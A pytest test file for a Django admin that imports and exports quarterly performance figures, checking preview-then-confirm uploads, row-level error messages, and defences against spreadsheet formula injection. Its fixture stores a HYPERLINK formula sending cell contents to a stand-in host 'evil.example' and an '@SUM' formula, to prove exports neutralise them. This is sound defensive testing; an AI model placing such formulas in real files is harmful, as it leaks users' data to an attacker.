"""Officers upload a quarter's return in the admin: preview every row, then confirm."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from measures.models import Actual, State

pytestmark = pytest.mark.django_db

Q2_RETURN = (
    "Measure, Period ,Value,Covers_Label,Commentary\n"
    "LAC-RATE,2017/18 Q2,47.2,As at 30 September 2017,Fewer children came into care.\n"
    "CP-PLANS,2017/18 Q2,351,As at 30 September 2017,\n"
)


def upload(client: Client, text: str) -> object:
    return client.post(
        "/admin/measures/actual/import/",
        {
            "resource": "0",
            "format": "0",
            "import_file": SimpleUploadedFile("q2.csv", text.encode("utf-8-sig")),
        },
    )


def test_officer_previews_then_confirms_a_return_as_drafts(client: Client, demo) -> None:
    client.force_login(demo["officer"])
    preview = upload(client, Q2_RETURN)
    page = preview.content.decode()
    assert preview.status_code == 200
    assert "Confirm import" in page
    assert "47.2" in page and "351" in page
    assert not Actual.objects.filter(year=2017, quarter=2).exists()

    confirm = preview.context["confirm_form"]
    response = client.post(
        "/admin/measures/actual/process_import/",
        {name: confirm.initial[name] for name in confirm.fields},
    )
    assert response.status_code == 302
    drafts = Actual.objects.filter(year=2017, quarter=2).order_by("measure__reference")
    assert [(a.measure.reference, a.value, a.state) for a in drafts] == [
        ("CP-PLANS", Decimal(351), State.DRAFT),
        ("LAC-RATE", Decimal("47.2"), State.DRAFT),
    ]


def test_a_bad_upload_shows_each_rows_problem_and_changes_nothing(client: Client, demo) -> None:
    client.force_login(demo["officer"])
    before = Actual.objects.count()
    bad = Q2_RETURN + "LAC-16-17-LEARN,2017/18 Q2,87%,,\nEYFS-GLD,2016/17 Q4,70,,\n"
    page = upload(client, bad).content.decode()
    assert "Confirm import" not in page
    assert "&#x27;87%&#x27; is not a plain number" in page
    assert "You can only load figures for measures you own" in page
    assert Actual.objects.count() == before


HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def export(client: Client, fmt: str) -> object:
    form = client.get("/admin/measures/actual/export/").context["form"]
    choice = next(value for value, label in form.fields["format"].choices if label == fmt)
    data = {name: field.initial for name, field in form.fields.items() if field.initial is True}
    return client.post("/admin/measures/actual/export/", {**data, "format": choice, "resource": 0})


@pytest.fixture
def hostile_figure(demo) -> Actual:
    figure = Actual.objects.get(measure__reference="LAC-RATE", year=2017, quarter=1)
    figure.commentary = HYPERLINK
    figure.covers_label = "@SUM(1+1)"
    figure.forecast = Decimal("-3.5")
    figure.save()
    return figure


def test_the_admin_csv_export_quotes_cells_that_could_run(
    client: Client, demo, hostile_figure
) -> None:
    client.force_login(demo["lead"])
    response = export(client, "csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["measure"] == "LAC-RATE" and r["period"] == "2017/18 Q1")
    assert row["commentary"] == "'" + HYPERLINK
    assert row["covers_label"] == "'@SUM(1+1)"
    assert row["forecast"] == "-3.5"


def test_the_admin_xlsx_export_has_no_formula(client: Client, demo, hostile_figure) -> None:
    client.force_login(demo["lead"])
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx").content)).active
    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
    headers = [cell.value for cell in sheet[1]]
    row = next(
        [cell.value for cell in r]
        for r in sheet.iter_rows(min_row=2)
        if r[0].value == "LAC-RATE" and r[1].value == "2017/18 Q1"
    )
    record = dict(zip(headers, row, strict=True))
    assert record["commentary"] == HYPERLINK
    assert record["covers_label"] == "@SUM(1+1)"
    assert record["forecast"] == -3.5


def test_an_exported_csv_with_quoted_cells_loads_back_unchanged(
    client: Client, demo, hostile_figure
) -> None:
    client.force_login(demo["lead"])
    exported = export(client, "csv").content.decode("utf-8-sig")
    mine = "\n".join(
        line for n, line in enumerate(exported.splitlines()) if n == 0 or "LAC-RATE" in line
    )
    preview = upload(client, mine + "\n")
    assert preview.status_code == 200
    assert "Confirm import" in preview.content.decode()
    result = preview.context["result"]
    assert result.totals["skip"] == result.total_rows
    figure = Actual.objects.get(pk=hostile_figure.pk)
    assert (figure.commentary, figure.covers_label) == (HYPERLINK, "@SUM(1+1)")
